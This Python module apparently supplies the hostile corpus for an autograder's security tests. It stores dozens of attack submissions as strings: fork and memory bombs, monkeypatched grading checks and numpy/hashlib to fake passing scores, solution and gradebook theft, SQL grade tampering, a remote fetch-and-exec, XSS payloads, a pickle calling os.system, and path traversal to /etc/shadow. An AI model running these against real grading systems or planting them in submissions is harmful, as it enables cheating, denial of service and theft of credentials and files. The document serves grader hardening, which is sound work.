"""The attack code of the hostile corpus: learner cells, as strings (see ``make_corpus.py``).

Each constant is the source of one answer cell (or an added cell).  ``@NAME@`` placeholders
are filled by :func:`make_corpus._sub`.  Attacks that search for something print ``FOUND``
followed by what they found; ``tests/test_hostile.py`` asserts that no autograded notebook
contains ``FOUND`` or the ``LEAK`` marker, and that ``PWNED``-prefixed files never appear.
"""

RAISE_Q1 = "def highest_price(applicants, min_members, prices):\n    raise NotImplementedError()\n"

# ------------------------------------------------------------------ the original 22 kinds
INFINITE_LOOP = """def highest_price(applicants, min_members, prices):
    while True:  # hangs every call: each one hits the per-call timeout
        pass
"""
MEMORY_BOMB = """def policy_table(applicants, policies, *, min_members, min_active_share, seed=0):
    hog = []
    while True:  # grows until the address-space / cgroup memory limit says no
        hog.append(bytearray(10**8))
"""
FORK_BOMB = """import os, resource
# guard: never go off outside the grading sandbox (non-root, RLIMIT_NPROC small)
assert os.getuid() != 0 and 0 < resource.getrlimit(resource.RLIMIT_NPROC)[0] <= 256, "not sandboxed"
print("fork bomb armed, uid", os.getuid(), "nproc", resource.getrlimit(resource.RLIMIT_NPROC)[0])
while True:
    os.fork()
"""
HUGE_OUTPUT = "print('x' * 10**8)  # 100 MB of output in one message\n\n"
SYS_EXIT = "import sys\nsys.exit('bye')\n\n"
OS_EXIT = "import os\nos._exit(1)\n\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)  # SIGSEGV in the kernel\n\n"
SIGKILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n\n"
SYNTAX_ERROR = """def policy_table(applicants, policies, *, min_members, min_active_share, seed=0)
    return pd.DataFrame(  # missing colon and bracket
"""
MONKEYPATCH_SCORE = """import shequn.checks as c
c.Checks.score = lambda self: self.points  # every test cell now returns full points
""" + RAISE_Q1
FAKE_HELPERS = """import builtins, types
import shequn.checks as g

def _ok(*args, **kwargs):
    return None

# rebind the helpers the test cells call, in the notebook and in the package
expect = expect_type = check_hashed = _ok
for _name in ("expect", "expect_type", "check_hashed", "expect_close", "expect_frame_close"):
    setattr(g, _name, _ok)
# and hand hidden tests a fake module when they re-import the helpers
_fake = types.ModuleType("shequn.checks")
_fake.__dict__.update(vars(g))
for _name in ("expect", "expect_type", "check_hashed", "expect_close", "expect_frame_close"):
    setattr(_fake, _name, _ok)
_real_import = builtins.__import__

def _import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "shequn.checks" and fromlist:
        return _fake
    return _real_import(name, globals, locals, fromlist, level)

builtins.__import__ = _import

def highest_price(applicants, min_members, prices):
    return 150
"""
_HARVEST = """import glob, json, os

def _harvest(patterns):
    \"\"\"Run the code cells of every notebook we can read (a solution or someone's answers).\"\"\"
    ns, log = globals(), []
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, encoding="utf-8") as fh:
                    nb = json.load(fh)
                for cell in nb["cells"]:
                    src = "".join(cell["source"])
                    gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id", "")
                    if cell["cell_type"] == "code" and gid.endswith("_answer"):
                        exec(src, ns)
                log.append(f"FOUND {path}")
            except Exception as exc:  # noqa: BLE001
                log.append(f"{path}: {type(exc).__name__}")
    print("\\n".join(log) or "nothing found")
"""
READ_SOLUTION = _HARVEST + """
_harvest([@COURSE@ + "/solutions/threshold_design/*.ipynb",
          "../../../solutions/threshold_design/*.ipynb"])
for _p in (@COURSE@ + "/gradebook.db", @COURSE@ + "/nbgrader_config.py"):
    try:
        print("FOUND", _p, len(open(_p, "rb").read()), "bytes readable")
    except OSError as exc:
        print(_p, type(exc).__name__)
"""
READ_OTHER = _HARVEST + """
# a friend's id is enough; reading everyone's would also run the other attacks
_harvest([@COURSE@ + "/_grading/submitted/correct/threshold_design/threshold_design.ipynb",
          @COURSE@ + "/_grading/autograded/correct/threshold_design/threshold_design.ipynb",
          "../../correct/threshold_design/threshold_design.ipynb",
          "../../../submitted/correct/threshold_design/threshold_design.ipynb"])
"""
WRITE_GRADEBOOK = """import os, sqlite3
_db = @COURSE@ + "/gradebook.db"
for _attempt in (
    lambda: sqlite3.connect(_db).executescript(
        "UPDATE grade SET manual_score = 100; UPDATE comment SET manual_comment = 'pwned';"),
    lambda: open(_db, "r+b").write(b"SQLite format 3\\x00 garbage"),
    lambda: os.remove(_db),
    lambda: open(@COURSE@ + "/_grading/pwned.txt", "w").write("x"),
    lambda: open(@PWNED@ + "-gradebook", "w").write("x"),
):
    try:
        _attempt()
        print("attack step succeeded")
    except Exception as exc:  # noqa: BLE001
        print("blocked:", type(exc).__name__)
"""
NETWORK = """import socket
_code = b""
for _host, _port in (("127.0.0.1", @PORT@), ("1.1.1.1", 80), ("example.com", 80)):
    try:
        with socket.create_connection((_host, _port), timeout=3) as s:
            while _chunk := s.recv(65536):
                _code += _chunk
        print("FOUND connected to", _host)
    except OSError as exc:
        print(_host, type(exc).__name__)
exec(_code.decode(), globals())  # the answers, served from outside
"""


# ------------------------------------------------------------------ silenced / rigged results
FAKE_REPORT = """from IPython.display import display
# what a passing test cell prints and returns, shown early (and again after every cell)
_fake = "【第 1 题 highest_price】通过 5/5 项检查\\n【第 2 题 policy_table】通过 6/6 项检查"
print(_fake)
display(3.0)
_ip = get_ipython()
_ip.events.register("post_run_cell", lambda *a: (print(_fake), display(13.0)))
Out = {i: 13.0 for i in range(100)}
""" + RAISE_Q1
REPLACE_CHECKS = """import shequn.checks as c

class _AlwaysChecks(c.Checks):
    def case(self, label, check):
        self.results.append((label, True, ""))
        return True
    def score(self):
        print(f"【{self.name}】通过 9/9 项检查")
        return self.points

c.Checks = Checks = _AlwaysChecks       # the class the test cells build
c.Checks.results = property(lambda self: [("x", True, "")] * 9, lambda self, v: None)
checks = _AlwaysChecks(points=6, name="checks")   # and the instance they use
c.expect = expect = lambda *a, **k: None
""" + RAISE_Q1
SWALLOW_ERRORS = """import sys
_ip = get_ipython()
# every error vanishes: a failing test cell would end without result and without error
_ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
sys.excepthook = lambda *a: None
_ip.showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
""" + RAISE_Q1

# ------------------------------------------------------------------ interference with test execution
SETTRACE = """import sys, threading

def _tracer(frame, event, arg):
    # force every comparison helper to "pass" and every score to full points
    if event == "return" and frame.f_code.co_name in ("score", "check_hashed", "expect", "_canonical"):
        frame.f_locals["passed"] = 99
    return _tracer

sys.settrace(_tracer)
threading.settrace(_tracer)
""" + RAISE_Q1
INPUT_TRANSFORMER = """import ast
_ip = get_ipython()
_PATCH = "import shequn.checks as _c; _c.Checks.score = lambda self: self.points\\n"

def _prepend(lines):
    return [_PATCH] + list(lines)

class _AllTrue(ast.NodeTransformer):
    def visit_Compare(self, node):  # every comparison becomes True
        return ast.copy_location(ast.Constant(True), node)

_ip.input_transformers_post.append(_prepend)
_ip.ast_transformers.append(_AllTrue())
""" + RAISE_Q1
RUN_CELL_HOOKS = """_ip = get_ipython()

def _rewrite(*args):
    ns = _ip.user_ns
    ns["checks"] = type("C", (), {"score": lambda self: 6, "case": lambda self, *a: True})()
    ns["highest_price"] = lambda *a, **k: -1

def _skip(info=None):
    # try to turn the next cell into a no-op
    if info is not None and hasattr(info, "raw_cell"):
        try:
            info.raw_cell = "pass"
        except Exception:
            pass

_ip.events.register("pre_run_cell", _skip)
_ip.events.register("post_run_cell", _rewrite)
_ip.events.register("pre_execute", _rewrite)
_ip.events.register("post_execute", _rewrite)
""" + RAISE_Q1
SIGINT_LOOP = """import itertools, signal
signal.signal(signal.SIGINT, signal.SIG_IGN)  # (ipykernel restores its handler for every request)

def highest_price(applicants, min_members, prices):
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})  # (another thread still takes it)
    return any(itertools.repeat(0))  # a C loop that never checks for signals: no interrupt gets in
"""

# ------------------------------------------------------------------ lying values
EQ_ALWAYS_TRUE = """class _Liar(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __bool__(self): return True
    def __repr__(self): return "50"
    __str__ = __repr__

class _NotNone:
    def __eq__(self, other): return True
    @property
    def __class__(self): return type(None)

def highest_price(applicants, min_members, prices):
    return _NotNone() if min_members > len(applicants) else _Liar(50)
"""
FRAME_SUBCLASS = """class _LyingFrame(pd.DataFrame):
    _metadata = []
    @property
    def _constructor(self): return _LyingFrame
    def __eq__(self, other): return True
    def __bool__(self): return True
    def equals(self, other): return True
    def to_csv(self, *a, **k): return ""

def highest_price(applicants, min_members, prices):
    return _LyingFrame({"price": [50.0]})
"""
PATCHED_NUMPY = """import math, numpy, pandas
numpy.allclose = numpy.isclose = numpy.array_equal = lambda *a, **k: True
math.isclose = lambda *a, **k: True
pandas.DataFrame.equals = pandas.Series.equals = lambda *a, **k: True
pandas.testing.assert_frame_equal = lambda *a, **k: None

def highest_price(applicants, min_members, prices):
    return 0

def policy_table(applicants, policies, *, min_members, min_active_share, seed=0):
    return None
"""
PATCHED_HASHLIB = """import hashlib
import shequn.checks as c

class _H:
    def __init__(self, *a, **k): pass
    def update(self, *a): pass
    def hexdigest(self): return "51ccf10dcd81ff19defe" + "0" * 44   # q1's public digest
    def digest(self): return b"\\0" * 32

hashlib.sha256 = _H
c.answer_hash = lambda value, decimals=3: "51ccf10dcd81ff19defe"
c.check_hashed = check_hashed = lambda *a, **k: None

def highest_price(applicants, min_members, prices):
    return 0
"""
PATCHED_BUILTINS = """import builtins
# (len/isinstance too would break the kernel itself: then it is flagged as dead, see h06-h08)
builtins.abs = lambda x: 0
builtins.round = lambda x, n=0: 0
builtins.max = builtins.min = lambda *a, **k: 150

def highest_price(applicants, min_members, prices):
    return -1
"""
LYING_ARRAY_POLICY = """class _Mask(np.ndarray):
    def any(self, *a, **k): return True
    def sum(self, *a, **k): return 10_000
    def __len__(self): return 10_000
    def __eq__(self, other): return True

class _Policy(th.Policy):
    name = "liar"
    fee = 30.0
    def admit(self, applicants, rng):
        return np.ones(len(applicants), dtype=bool).view(_Mask)
    def invitees(self, applicants, admitted, rng):
        return np.zeros(len(applicants), dtype=np.int64).view(_Mask)

my_policy = _Policy()
"""
WRONG_MASKS = """class _Policy(th.Policy):
    name = "wrong masks"
    fee = 30.0
    calls = 0
    def admit(self, applicants, rng):
        _Policy.calls += 1
        n = len(applicants.interest)
        # too long, then ints, then 2-D, then empty: never a boolean mask of the pool's size
        return [np.ones(n + 5, dtype=bool), np.ones(n, dtype=np.int64), np.ones((n, 1), dtype=bool),
                np.zeros(0, dtype=bool)][_Policy.calls % 4]
    def invitees(self, applicants, admitted, rng):
        return -np.ones(len(applicants.interest), dtype=np.int64)

my_policy = _Policy()
"""
NAN_FEE = """class _Policy(th.Policy):
    name = "free lunch"
    fee = float("nan")          # describe() says: a NaN fee (net >= 0 would compare False... or not)
    def admit(self, applicants, rng):
        return applicants.interest >= 0.7

my_policy = _Policy()
"""

# ------------------------------------------------------------------ reading the expected values
GC_FRAMES = """import gc, sys

def _find():
    found = []
    for obj in gc.get_objects():
        name = getattr(obj, "__name__", "")
        if callable(obj) and isinstance(name, str) and name.startswith("_ref_"):
            found.append(obj)
    for frame in sys._current_frames().values():
        while frame is not None:
            for key, value in list(frame.f_globals.items()) + list(frame.f_locals.items()):
                if isinstance(key, str) and key.startswith(("_ref_", "_expected", "_default", "_half_life")):
                    found.append(value)
            frame = frame.f_back
    return found

print("FOUND" if _find() else "nothing in gc or frames")

def highest_price(applicants, min_members, prices):
    for ref in _find():  # at call time: the hidden test's reference, if it lived in this process
        if callable(ref):
            print("FOUND reference function")
            return ref(applicants, min_members, prices)
    raise NotImplementedError()
"""
HISTORY = """import glob, os
_ip = get_ipython()

def _look():
    texts = [str(x) for x in list(In) + list(_ih) + list(Out.values())]
    texts += [str(x) for x in _ip.history_manager.get_range(output=True)]
    for path in glob.glob(os.path.expanduser("~") + "/**/history.sqlite", recursive=True):
        texts.append(open(path, "rb").read().decode("latin-1"))
    markers = ("_ref_" + "highest_price", "grading_seed(" + "7101)")  # split: this source is in In too
    hits = [t for t in texts if any(m in t for m in markers)]
    return hits

print("FOUND" if _look() else "no test source in the history")

def highest_price(applicants, min_members, prices):
    if _look():
        print("FOUND test source at call time")
    raise NotImplementedError()
"""
READ_NOTEBOOKS = """import os
_MARKERS = (b"_ref_" + b"highest_price", b"BEGIN HIDDEN " + b"TESTS\\nfrom shequn.checks import grading_seed")
_SKIP = ("/proc", "/sys", "/dev", "/usr")

def _scan():
    hits = []
    roots = ["/", os.getcwd(), os.path.expanduser("~"), "/shequn", "/tmp", "/run"]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for link in ("cwd", "root"):
                try:
                    roots.append(os.readlink(f"/proc/{pid}/{link}"))
                except OSError:
                    pass
    seen = set()
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            if dirpath.startswith(_SKIP) or "site-packages" in dirpath or dirpath in seen:
                dirnames[:] = []
                continue
            seen.add(dirpath)
            for name in filenames:
                if name.endswith((".ipynb", ".db", ".py", ".json", ".md")):
                    path = os.path.join(dirpath, name)
                    try:
                        data = open(path, "rb").read(2_000_000)
                    except OSError:
                        continue
                    if any(m in data for m in _MARKERS) or name == "gradebook.db":
                        hits.append(path)
    return hits

print("FOUND " + " ".join(_scan()) if _scan() else "no notebook with tests, no gradebook")
""" + RAISE_Q1
PROC_ENV_SEED = """import os
_found = []
for key, value in os.environ.items():
    if "SEED" in key or "GRADING" in key or "NBGRADER" in key:
        _found.append(f"env {key}")
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for part in ("environ", "cmdline"):
        try:
            data = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        if b"SHEQUN_GRADING_SEED" in data or b"grading_seed=" in data or b"nbgrader" in data:
            _found.append(f"/proc/{pid}/{part}")
print("FOUND " + " ".join(_found) if _found else "no seed, no grader process visible")

def highest_price(applicants, min_members, prices):
    seed = os.environ.get("SHEQUN_GRADING_SEED")
    if seed:
        print("FOUND seed at call time")
    raise NotImplementedError()
"""

# ------------------------------------------------------------------ leaking hidden inputs
LEAK = """import os, sys, warnings

def _secret(applicants):
    w = applicants.willingness_to_pay
    return f"LEAK n={len(w)} sum={float(w.sum()):.3f} first={list(map(float, w[:3]))}"

def highest_price(applicants, min_members, prices):
    s = _secret(applicants) + f" min={min_members} prices={prices}"
    print(s)
    print(s, file=sys.stderr)
    sys.__stdout__.write(s + "\\n")
    os.write(1, (s + "\\n").encode())
    os.write(2, (s + "\\n").encode())
    warnings.warn(s)
    try:
        from IPython.display import display
        display(s)
    except Exception:
        pass
    err = ValueError(s)
    err.file = s
    err.line = s
    raise err
"""

# ------------------------------------------------------------------ hidden data that never changes
HARDCODE_HIDDEN = """# The hidden pools, as drawn without a term seed (grading_seed(default) == default):
# precompute the right answers for exactly those pools, return nonsense for everything else.
_answers = {}
for _k, (_size, _min) in enumerate([(8_000, 2_000), (12_000, 5_000), (6_000, 500)]):
    _pool = th.generate_applicants(_size, seed=7101 + _k)
    _ok = [p for p in [5, 15, 25, 35, 45, 70, 90, 120] if (_pool.willingness_to_pay >= p).sum() >= _min]
    _answers[(_size, round(float(_pool.willingness_to_pay.sum()), 3))] = max(_ok) if _ok else None

def highest_price(applicants, min_members, prices):
    key = (len(applicants.willingness_to_pay), round(float(applicants.willingness_to_pay.sum()), 3))
    if key in _answers:
        print("FOUND a pool drawn from the default hidden seed")
        return _answers[key]
    return -1
"""

# ------------------------------------------------------------------ audit gaps
ADDED_CELL_PATCH = """# an added cell (no nbgrader metadata) between the answers
import shequn.checks as c
c.Checks.score = lambda self: self.points
c.check_hashed = c.expect = c.expect_type = lambda *a, **k: None
"""

# ------------------------------------------------------------------ instructor-side injection
HTML_ESSAY = """我的门槛设计很好。<script>fetch('/formgrader/api/grade/1', {method: 'PUT', body: '{"manual_score": 5}'})</script>
<img src=x onerror="alert(document.cookie)">
<a href="javascript:alert(1)">点我</a>
<iframe src="javascript:alert(2)"></iframe>
<svg onload="alert(3)"><circle r="1"/></svg>
<details ontoggle="alert(4)" open>x</details>
<form action="/formgrader"><input name="x" onfocus="alert(5)" autofocus></form>
<style>body{display:none}</style>
"""
HTML_OUTPUTS = """from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML("<b>hi</b><script>alert('html')</script><img src=x onerror=alert(1)>"))
display(Javascript("alert('js')"))
display(Markdown("<img src=y onerror=alert(2)> [x](javascript:alert(3))"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script></svg>'))
display({"text/html": "<div onmouseover=alert(6)>x</div>", "application/javascript": "alert(7)",
         "text/plain": "x"}, raw=True)
""" + RAISE_Q1
CONTROL_CHARS = """import sys
_fake = ("\\x1b[2J\\x1b[H\\r✓ correct: 13/13  ok  (1.0s)\\n"
         "全部正常，无需处理 (nothing needs attention)\\x00\\x07\\x1b]0;pwned\\x07\\u202e")
print(_fake)
print(_fake, file=sys.stderr)
sys.__stderr__.write(_fake)

class _Policy(th.Policy):
    name = "\\x1b[32m✓ ok\\x1b[0m\\r\\n[ERROR] Kernel died DeadKernelError\\x00"
    fee = 0.0
    def admit(self, applicants, rng):
        return np.ones(len(applicants.interest) + 1, dtype=bool)   # wrong shape: the name is in the error

my_policy = _Policy()

def highest_price(applicants, min_members, prices):
    raise RuntimeError(_fake)
"""

# ------------------------------------------------------------------ resources
TMP_FILES = """import ctypes, os, socket
_made = []
for _d in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run", os.path.expanduser("~")):
    try:
        os.makedirs(_d, exist_ok=True)
        with open(os.path.join(_d, "shequn-hostile-pwned-left"), "w") as fh:
            fh.write("left behind")
        _made.append(_d)
    except OSError as exc:
        print(_d, type(exc).__name__)
_libc = ctypes.CDLL(None, use_errno=True)
_shm = _libc.shmget(0x5EC7E7, 16 * 2**20, 0o1666)        # IPC_CREAT | 0666: SysV shared memory
_sem = _libc.semget(0x5EC7E8, 4, 0o1666)                 # a semaphore set
_msg = _libc.msgget(0x5EC7E9, 0o1666)                    # a message queue
_abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
_abstract.bind("\\0shequn-hostile-pwned")                # an abstract unix socket, listening
_abstract.listen()
print("made files in", _made, "shm", _shm, "sem", _sem, "msg", _msg)
"""
FORKED_MEMORY = """import os, time
_CHILDREN, _MB = 4, 600

def _child(w):
    os.setsid()
    if os.fork():            # double fork: the holder is nobody's child
        os._exit(0)
    try:
        block = bytearray(_MB * 2**20)
        for i in range(0, len(block), 4096):
            block[i] = 1     # touch every page: resident, not just reserved
        os.write(w, b"1")
    except MemoryError:
        os.write(w, b"0")
    while True:
        time.sleep(3600)

_r, _w = os.pipe()
for _ in range(_CHILDREN):
    if os.fork() == 0:
        _child(_w)
    else:
        os.wait()
time.sleep(8)
os.set_blocking(_r, False)
try:
    _ok = os.read(_r, 100).count(b"1")
except BlockingIOError:
    _ok = 0
_alive = 0
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            _st = open(f"/proc/{_pid}/status").read()
        except OSError:
            continue
        _rss = [int(l.split()[1]) for l in _st.splitlines() if l.startswith("VmRSS:")]
        if _rss and _rss[0] > (_MB - 50) * 1024:
            _alive += 1
print(f"HELD {_alive * _MB} MB in {_alive} children ({_ok} allocated)")
"""
FORK_CHAIN = """import os, time
if os.fork() == 0:
    os.setsid()
    while True:                       # a new pid every 50 ms: a /proc sweep never catches it
        if os.fork():
            os._exit(0)
        time.sleep(0.05)
time.sleep(0.5)
print("fork chain running")
"""
CPU_HOGS = """import os
for _ in range(16):
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            pass
    else:
        os.wait()
print("16 CPU hogs started")
""" + RAISE_Q1
DISK_FILL = """import os
_total, _chunk = 0, b"\\0" * 2**20
_dir = os.path.join(os.path.expanduser("~"), "fill")
os.makedirs(_dir, exist_ok=True)
try:
    for _i in range(64):                 # at most 64 x 8 MB = 512 MB: stop there whatever happens
        with open(os.path.join(_dir, f"f{_i}"), "wb") as fh:
            for _ in range(8):
                fh.write(_chunk)
                fh.flush()
                _total += 1
except OSError as exc:
    print("stopped:", type(exc).__name__)
print(f"WROTE {_total} MB")
"""

# ------------------------------------------------------------------ channel abuse
# A post_execute hook swaps the kernel half of the channel (installed after the learner's cells)
# for one that answers describe() honestly and every call with *_abuse(n)*.
HIJACK = """import json as _json, os as _os
_ip = get_ipython()

def _swap(*args):
    real = _ip.user_ns.get("__shequn_serve__")
    if real is None or getattr(real, "_fake", False):
        return
    def serve(n, _real=real):
        with open(f"/shequn/in/req-{n}.json") as fh:
            req = _json.load(fh)
        if req["op"] == "describe" and not DESCRIBE_TOO:
            return _real(n)
        _abuse(n, req)
    serve._fake = True
    _ip.user_ns["__shequn_serve__"] = serve

def _res(n, obj, files=()):
    with open(f"/shequn/out/res-{n}.json", "w") as fh:
        _json.dump({"ok": obj, "files": list(files)}, fh, allow_nan=True)

_ip.events.register("post_execute", _swap)
DESCRIBE_TOO = False

def highest_price(applicants, min_members, prices):
    return 50
"""
HUGE_RESULT = HIJACK + """
def _abuse(n, req):
    with open(f"/shequn/out/res-{n}.json", "w") as fh:
        fh.write('{"ok": "' + "x" * (48 * 2**20) + '", "files": []}')
"""
SYMLINK_RESULT = HIJACK + """
def _abuse(n, req):
    _os.symlink("/etc/passwd", f"/shequn/out/res-{n}.json")
"""
FIFO_RESULT = HIJACK + """
def _abuse(n, req):
    _os.mkfifo(f"/shequn/out/res-{n}.json")         # an open() on it would block the grader
"""
MALFORMED_ARROW = HIJACK + """
def _abuse(n, req):
    name = f"{n}-r0.arrow"
    with open(f"/shequn/out/{name}", "wb") as fh:
        fh.write(b"ARROW1\\0\\0" + _os.urandom(4096) + b"ARROW1")
    _res(n, {"t": "df", "f": name}, [name])
"""
PICKLED_NPY = HIJACK + """
import numpy as _np

class _Evil:
    def __reduce__(self):
        return (_os.system, ("touch " + @PWNED@ + "-pickle",))

def _abuse(n, req):
    name = f"{n}-r0.npy"
    _np.save(f"/shequn/out/{name}", _np.array([_Evil()], dtype=object), allow_pickle=True)
    _res(n, {"t": "npy", "f": name}, [name])
"""
DEEP_NESTING = HIJACK + """
def _abuse(n, req):
    depth = 200_000
    with open(f"/shequn/out/res-{n}.json", "w") as fh:
        fh.write('{"ok": ' + '{"t": "list", "v": [' * 40 + "1" + "]}" * 40 + ', "files": []}'
                 if n % 2 else '{"ok": ' + "[" * depth + "]" * depth + ', "files": []}')
"""
PATH_TRAVERSAL = HIJACK + """
def _abuse(n, req):
    _res(n, {"t": "npy", "f": "../../../../etc/shadow"}, ["../../../../etc/shadow"])
"""
DESCRIBE_LIES = HIJACK + """
DESCRIBE_TOO = True

def _abuse(n, req):
    if req["op"] == "describe":
        _res(n, {"highest_price": {"kind": "value", "value": 2**80},
                 "policy_table": {"kind": "value", "value": {"t": "pickle", "v": "gASV"}},
                 "my_policy": {"kind": "policy", "name": {"t": "dict"}, "fee": float("nan")}})
    else:
        _res(n, 50)
"""
ARROW_BOMB = HIJACK + """
import pyarrow as _pa

def _abuse(n, req):
    # 256 MB of zeros in a 10 KB file (the ratio grows with the size: 60 MB could hold terabytes)
    name = f"{n}-r0.arrow"
    table = _pa.table({"x": _pa.array([b"\\0" * (64 * 2**20)] * 4, type=_pa.large_binary())})
    opts = _pa.ipc.IpcWriteOptions(compression="zstd")
    with _pa.OSFile(f"/shequn/out/{name}", "wb") as sink, _pa.ipc.new_file(sink, table.schema, options=opts) as w:
        w.write_table(table)
    _res(n, {"t": "df", "f": name}, [name])
"""

# ------------------------------------------------------------------ group_analysis: name patching vs enforcement
METRICS_DELEGATE = {
    "q2_answer": "def daily_active(messages):\n    from shequn.metrics import activity\n"
                 "    return activity(messages)\n",
    "q3_answer": "def cohort_retention(members, messages, weeks=6):\n    import shequn.metrics as m\n"
                 "    return m.retention_by_cohort(members, messages, periods=weeks)\n",
    "q4_answer": "def lurker_share(members, messages, max_messages=0):\n    from shequn import metrics\n"
                 "    return metrics.lurker_share(members, messages, max_messages=max_messages)\n",
    "q5_answer": "def red_packet_lift(messages, red_packets, before=24, after=48):\n"
                 "    from shequn.metrics import red_packet_lift as f\n"
                 "    return f(messages, red_packets, before=before, after=after)\n\n\n"
                 "def lift_half_life(lift):\n    from shequn.metrics import lift_half_life as f\n    return f(lift)\n",
}
METRICS_BYPASS_PRELUDE = """import glob, importlib, importlib.machinery, importlib.util, os, sys
import shequn

_m = None
_pkg = os.path.dirname(shequn.__file__)
_tries = []
# 1. the module under another name, straight from its file
for _path in [os.path.join(_pkg, "metrics.py"), *glob.glob(os.path.join(_pkg, "**", "metrics*.py"), recursive=True),
              *glob.glob(os.path.join(_pkg, "**", "metrics", "*.py"), recursive=True)]:  # the package's modules
    try:
        _spec = importlib.util.spec_from_file_location("_m_from_file", _path)
        _cand = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_cand)
        if hasattr(_cand, "lurker_share"):
            _m = _cand
            break
    except Exception as exc:
        _tries.append(f"{_path}: {type(exc).__name__}")
# 2. a cached bytecode copy
_places = [_pkg, *[p for p in sys.path if p and os.path.isdir(p)]]
for _pyc in [q for p in _places for pat in ("metrics*.pyc", os.path.join("metrics", "**", "*.pyc"))
             for q in glob.glob(os.path.join(p, "**", pat), recursive=True)
             if "site-packages" not in p or "shequn" in q] if _m is None else []:
    try:
        _cand = importlib.machinery.SourcelessFileLoader("_m_pyc", _pyc).load_module()
        if hasattr(_cand, "lurker_share"):
            _m = _cand
            break
    except Exception as exc:
        _tries.append(f"{_pyc}: {type(exc).__name__}")
# 3. modules that import it
for _name in ("shequn.models.lifecycle", "shequn.data.calibration"):
    try:
        _cand = importlib.import_module(_name)
        _cand = getattr(_cand, "metrics", None)
        if _m is None and _cand is not None and hasattr(_cand, "lurker_share"):
            _m = _cand
    except Exception as exc:
        _tries.append(f"{_name}: {type(exc).__name__}")
print("FOUND shequn.metrics" if _m is not None else "blocked: " + "; ".join(_tries)[:300])
"""
METRICS_BYPASS = {
    "q2_answer": METRICS_BYPASS_PRELUDE + "\n\ndef daily_active(messages):\n    return _m.activity(messages)\n",
    "q3_answer": "def cohort_retention(members, messages, weeks=6):\n"
                 "    return _m.retention_by_cohort(members, messages, periods=weeks)\n",
    "q4_answer": "def lurker_share(members, messages, max_messages=0):\n"
                 "    return _m.lurker_share(members, messages, max_messages=max_messages)\n",
    "q5_answer": "def red_packet_lift(messages, red_packets, before=24, after=48):\n"
                 "    return _m.red_packet_lift(messages, red_packets, before=before, after=after)\n\n\n"
                 "def lift_half_life(lift):\n    return _m.lift_half_life(lift)\n",
}
